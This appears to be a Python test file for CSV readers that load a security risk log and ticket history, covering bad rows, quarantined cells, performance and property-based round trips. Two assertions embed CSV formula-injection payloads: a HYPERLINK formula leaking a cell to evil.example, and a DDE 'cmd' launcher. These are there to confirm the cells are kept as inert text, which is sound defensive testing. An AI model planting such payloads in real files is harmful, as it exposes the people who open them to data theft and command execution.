"""SECURITY-RISK-LOG.csv and ticket-history.csv: good files, every failure mode, and
property tests that arbitrary cells never raise and valid rows round-trip."""

from __future__ import annotations

import csv
import io
import tempfile
import time
from datetime import UTC, date, datetime, timedelta, timezone
from pathlib import Path

from hypothesis import given, settings
from hypothesis import strategies as st

from opsledger.core.problems import Level
from opsledger.model.common import ItemStatus, Severity
from opsledger.model.handover import Ticket, WorkItem
from opsledger.readers import security_risk_log, tickets

FIXTURES = Path(__file__).parent / "fixtures"
RISKS = FIXTURES / "risks"
TICKETS = FIXTURES / "tickets"


def located(result) -> list[tuple[Level, str]]:
    return [(p.level, p.location) for p in result.problems]


# --- security risk log -------------------------------------------------------------------


def test_risk_log_rows_become_security_work_items():
    result = security_risk_log.read(RISKS / "risk-log.csv")
    assert result.problems == []
    first, second, third, fourth, fifth = result.records
    assert first == WorkItem(
        id="SEC-001",
        title="Log4j JNDI lookup in reporting job",
        source="security",
        service="reporting",
        owner="Dana Silva",
        severity=Severity.CRITICAL,
        status=ItemStatus.OPEN,
        due_date=date(2026, 10, 12),
        impact=5.0,
        likelihood=5.0,
        reference="CVE-2021-44228",
        compliance=("SOC2", "PCI-DSS"),
        created=date(2026, 9, 1),
    )
    # Risk-matrix words map onto the 1-5 scale; an empty owner stays unknown.
    assert (second.likelihood, second.impact, second.owner) == (4.0, 4.0, None)
    assert second.title == "TLS 1.0 enabled on legacy endpoint, port 8443"
    assert (third.severity, third.status, third.due_date) == (
        Severity.LOW,
        ItemStatus.WONT_DO,
        None,
    )
    # Formula-looking cells are data: kept verbatim as text, never evaluated or dropped.
    assert fourth.title == '=HYPERLINK("http://evil.example/?x="&A1)'
    assert fourth.reference == "@SUM(1+1)"
    # No severity = not rated; no status = still open.
    assert (fifth.severity, fifth.status) == (None, ItemStatus.OPEN)


def test_risk_log_ragged_row_is_quarantined_with_its_line():
    path = RISKS / "risk-log-ragged.csv"
    result = security_risk_log.read(path)
    assert [r.id for r in result.records] == ["SEC-001", "SEC-003"]
    [problem] = result.problems
    assert (problem.level, problem.location) == (Level.ROW, "line 3")
    assert (problem.expected, problem.found) == ("5 cells", "6 cells")
    assert str(problem).startswith(f"{path}: line 3: wrong number of cells")


def test_risk_log_missing_due_date_column_is_fatal():
    path = RISKS / "risk-log-missing-column.csv"
    result = security_risk_log.read(path)
    [problem] = result.problems
    assert (problem.level, problem.location) == (Level.FATAL, "line 1")
    assert problem.message == "missing required column due_date"
    assert result.records == []


def test_risk_log_bad_cells_are_quarantined_one_problem_each():
    path = RISKS / "risk-log-bad-values.csv"
    result = security_risk_log.read(path)
    assert [r.title for r in result.records] == ["Fine"]
    assert located(result) == [
        (Level.ROW, "line 2, column 'due_date'"),
        (Level.ROW, "line 3, column 'likelihood'"),
        (Level.ROW, "line 4, column 'severity'"),
        (Level.ROW, "line 5, column 'status'"),
        (Level.ROW, "line 6, column 'impact'"),
        (Level.ROW, "line 8, column 'id'"),
    ]
    bad_date = result.problems[0]
    assert bad_date.found == "'2026-13-45'" and "YYYY-MM-DD" in bad_date.expected
    assert result.problems[1].found == "'very high'"
    assert result.problems[5].found == "also at line 7"
    assert all(p.path == str(path) for p in result.problems)


# --- ticket history ----------------------------------------------------------------------


def test_ticket_rows_with_iso_epoch_and_offset_times():
    result = tickets.read(TICKETS / "tickets.csv")
    assert result.problems == []
    one, two, three, four = result.records
    assert one == Ticket(
        "T-1",
        datetime(2026, 3, 2, 9, 15, tzinfo=UTC),
        datetime(2026, 3, 2, 10, 1, 30, tzinfo=UTC),
        "access",
        "password reset",
        "P3",
        "Password reset not working",
        6.5,
        "auth",
        "email",
    )
    assert two.created_at == datetime(2026, 3, 2, 9, 20, tzinfo=UTC)  # naive = UTC
    assert (two.resolved_at, two.handle_minutes) == (None, None)
    assert two.title == "Refund request for order #123, urgent"
    assert three.created_at == datetime(2026, 3, 2, 10, 0, tzinfo=UTC)
    assert three.category == tickets.UNCATEGORISED
    assert three.title == "=cmd|' /C calc'!A0"  # kept as text
    assert (three.service, three.channel) == (None, None)
    assert four.created_at == datetime.fromtimestamp(1772443200, UTC)
    assert four.resolved_at - four.created_at == timedelta(hours=1)


def test_ticket_export_headers_are_recognised():
    [ticket] = tickets.read(TICKETS / "tickets-zendesk.csv").records
    assert (ticket.id, ticket.title, ticket.queue, ticket.category, ticket.channel) == (
        "101",
        "Can't log in",
        "Access",
        "Problem",
        "Mail",
    )
    assert ticket.resolved_at == datetime(2026, 3, 2, 11, 15, tzinfo=UTC)


def test_ticket_ragged_row_is_quarantined_with_its_line():
    path = TICKETS / "tickets-ragged.csv"
    result = tickets.read(path)
    assert [t.id for t in result.records] == ["T-1", "T-3"]
    assert located(result) == [(Level.ROW, "line 3")]
    assert str(result.problems[0]).startswith(f"{path}: line 3: wrong number of cells")


def test_ticket_rows_of_empty_cells_are_skipped(tmp_path):
    path = tmp_path / "ticket-history.csv"
    path.write_text(
        "id,created_at,queue,category,title\n"
        ",,,,\n"
        "T-1,2026-03-02T09:15:00Z,access,password reset,Reset\n"
        " , ,,,\n"
    )
    result = tickets.read(path)
    assert result.problems == []
    assert [t.id for t in result.records] == ["T-1"]


def test_repeated_ticket_titles_and_handling_times_are_one_object_each(tmp_path):
    path = tmp_path / "ticket-history.csv"
    path.write_text(
        "id,created_at,queue,category,title,handle_minutes\n"
        "T-1,2026-03-02T09:15:00Z,access,password reset,Can't log in,7.5\n"
        "T-2,2026-03-02T10:15:00Z,access,password reset, Can't log in ,7.5\n"
        "T-3,2026-03-02T11:15:00Z,access,password reset,Locked out,12\n"
        "T-4,2026-03-02T12:15:00Z,access,password reset,Locked out,bad\n"
        "T-5,2026-03-02T13:15:00Z,access,password reset,Locked out,\n"
    )
    result = tickets.read(path)
    first, second, third, fifth = result.records
    # A year of tickets repeats a few thousand titles and handling times: kept once each.
    assert first.title == second.title == "Can't log in" and first.title is second.title
    assert first.handle_minutes == 7.5 and first.handle_minutes is second.handle_minutes
    assert third.title is fifth.title and (third.handle_minutes, fifth.handle_minutes) == (12, None)
    # A bad cell is still located, however often its text has been seen.
    assert located(result) == [(Level.ROW, "line 5, column 'handle_minutes'")]


def test_ticket_missing_category_column_is_fatal():
    result = tickets.read(TICKETS / "tickets-missing-column.csv")
    assert located(result) == [(Level.FATAL, "line 1")]
    assert result.problems[0].message == "missing required column category"


def test_ticket_bad_cells_are_quarantined_one_problem_each():
    path = TICKETS / "tickets-bad-values.csv"
    result = tickets.read(path)
    assert [t.id for t in result.records] == ["T-6"]
    assert located(result) == [
        (Level.ROW, "line 2, column 'created_at'"),
        (Level.ROW, "line 3, column 'resolved_at'"),
        (Level.ROW, "line 4, column 'resolved_at'"),
        (Level.ROW, "line 5, column 'handle_minutes'"),
        (Level.ROW, "line 6, column 'queue'"),
    ]
    assert result.problems[0].found == "'2026-02-30T09:15:00Z'"
    assert "resolved before it was created" in result.problems[2].message
    assert str(result.problems[0]).startswith(f"{path}: line 2, column 'created_at':")


def test_thirty_thousand_tickets_read_in_well_under_two_seconds(tmp_path):
    start = datetime(2026, 1, 1, tzinfo=UTC)
    lines = [
        "id,created_at,resolved_at,queue,category,priority,title,handle_minutes,service,channel"
    ]
    for n in range(30_000):
        created = start + timedelta(minutes=13 * n)
        lines.append(
            f"T-{n},{created:%Y-%m-%dT%H:%M:%SZ},{created + timedelta(hours=3):%Y-%m-%dT%H:%M:%SZ},"
            f"billing,refund request,P3,Refund request for order #{n},{n % 40 + 0.5},billing,web"
        )
    path = tmp_path / "ticket-history.csv"
    path.write_text("\n".join(lines) + "\n")
    # CPU time, so that other processes on a busy machine do not count against the reader.
    began = time.process_time()
    result = tickets.read(path)
    elapsed = time.process_time() - began
    assert len(result.records) == 30_000 and result.problems == []
    assert result.records[-1].created_at == start + timedelta(minutes=13 * 29_999)
    assert elapsed < 2.0, f"{elapsed:.2f}s"


# --- properties --------------------------------------------------------------------------

cell_text = st.text(max_size=30)


def write_csv(header: list[str], rows: list[list[str]]) -> Path:
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    with tempfile.NamedTemporaryFile(
        "w", suffix=".csv", delete=False, encoding="utf-8", newline=""
    ) as handle:
        handle.write(buffer.getvalue())
    return Path(handle.name)


def assert_every_problem_is_located(result, path: Path) -> None:
    for problem in result.problems:
        assert problem.path == str(path)
        assert problem.level is Level.FATAL or problem.location.startswith("line ")


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(cell_text, min_size=11, max_size=11), max_size=6))
def test_risk_log_never_raises_on_arbitrary_cells(rows):
    path = write_csv(
        [
            *security_risk_log.REQUIRED,
            *("service", "owner", "likelihood", "impact", "reference", "compliance"),
        ],
        rows,
    )
    try:
        result = security_risk_log.read(path)
    finally:
        path.unlink()
    assert_every_problem_is_located(result, path)
    assert_rows_accounted_for(result, rows)


def assert_rows_accounted_for(result, rows: list[list[str]]) -> None:
    """Every non-blank row is read, or a problem says why not."""
    filled = [row for row in rows if any(cell.strip() for cell in row)]
    assert len(result.records) <= len(filled)
    if not result.problems:
        assert len(result.records) == len(filled)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.lists(cell_text, min_size=10, max_size=10), max_size=6))
def test_ticket_reader_never_raises_on_arbitrary_cells(rows):
    path = write_csv(list(tickets.COLUMNS), rows)
    try:
        result = tickets.read(path)
    finally:
        path.unlink()
    assert_every_problem_is_located(result, path)
    assert_rows_accounted_for(result, rows)


plain = (
    st.text(
        alphabet=st.characters(
            blacklist_categories=("Cs", "Cc", "Zl", "Zp"), blacklist_characters="\x00"
        ),
        min_size=1,
        max_size=20,
    )
    .map(str.strip)
    .filter(bool)
)
moments = st.datetimes(
    min_value=datetime(2000, 1, 1),
    max_value=datetime(2099, 1, 1),
    timezones=st.sampled_from(
        [UTC, timezone(timedelta(hours=5, minutes=30)), timezone(timedelta(hours=-7))]
    ),
)


@st.composite
def valid_tickets(draw) -> Ticket:
    created = draw(moments).replace(microsecond=0)
    resolved = draw(st.none() | st.timedeltas(min_value=timedelta(0), max_value=timedelta(days=90)))
    return Ticket(
        id=draw(plain),
        created_at=created,
        resolved_at=None if resolved is None else created + resolved,
        queue=draw(plain),
        category=draw(plain),
        priority=draw(st.none() | plain),
        title=draw(plain),
        handle_minutes=draw(st.none() | st.floats(min_value=0, max_value=1e6, allow_nan=False)),
        service=draw(st.none() | plain),
        channel=draw(st.none() | plain),
    )


def ticket_cells(ticket: Ticket) -> list[str]:
    return [
        ticket.id,
        ticket.created_at.isoformat(),
        ticket.resolved_at.isoformat() if ticket.resolved_at else "",
        ticket.queue,
        ticket.category,
        ticket.priority or "",
        ticket.title,
        "" if ticket.handle_minutes is None else repr(ticket.handle_minutes),
        ticket.service or "",
        ticket.channel or "",
    ]


@settings(max_examples=60, deadline=None)
@given(st.lists(valid_tickets(), min_size=1, max_size=8))
def test_valid_tickets_round_trip(records):
    path = write_csv(
        list(tickets.COLUMNS[:5]) + list(tickets.COLUMNS[5:]),
        [[cells[i] for i in _ORDER] for cells in map(ticket_cells, records)],
    )
    try:
        result = tickets.read(path)
    finally:
        path.unlink()
    assert result.problems == []
    assert result.records == records


# tickets.COLUMNS puts the required columns first; ticket_cells follows the model's order.
_MODEL_ORDER = (
    "id",
    "created_at",
    "resolved_at",
    "queue",
    "category",
    "priority",
    "title",
    "handle_minutes",
    "service",
    "channel",
)
_ORDER = [_MODEL_ORDER.index(name) for name in tickets.COLUMNS]


@st.composite
def valid_risks(draw) -> WorkItem:
    return WorkItem(
        id=draw(plain),
        title=draw(plain),
        source="security",
        service=draw(st.none() | plain),
        owner=draw(st.none() | plain),
        severity=draw(st.none() | st.sampled_from([s for s in Severity])),
        status=draw(st.sampled_from(list(ItemStatus))),
        due_date=draw(
            st.none() | st.dates(min_value=date(2000, 1, 1), max_value=date(2199, 12, 31))
        ),
        impact=draw(st.none() | st.integers(1, 5).map(float)),
        likelihood=draw(st.none() | st.floats(min_value=1, max_value=5)),
        reference=draw(st.none() | plain),
        compliance=tuple(
            draw(st.lists(plain.filter(lambda s: not (set(s) & set(",;"))), max_size=3))
        ),
    )


RISK_HEADER = [
    "id",
    "title",
    "service",
    "owner",
    "severity",
    "status",
    "due_date",
    "impact",
    "likelihood",
    "reference",
    "compliance",
]


def risk_cells(item: WorkItem) -> list[str]:
    return [
        item.id,
        item.title,
        item.service or "",
        item.owner or "",
        item.severity.value if item.severity else "",
        item.status.value,
        item.due_date.isoformat() if item.due_date else "",
        "" if item.impact is None else repr(item.impact),
        "" if item.likelihood is None else repr(item.likelihood),
        item.reference or "",
        ";".join(item.compliance),
    ]


@settings(max_examples=60, deadline=None)
@given(st.lists(valid_risks(), min_size=1, max_size=8, unique_by=lambda item: item.id))
def test_valid_risks_round_trip(items):
    path = write_csv(RISK_HEADER, [risk_cells(item) for item in items])
    try:
        result = security_risk_log.read(path)
    finally:
        path.unlink()
    assert result.problems == []
    assert result.records == items
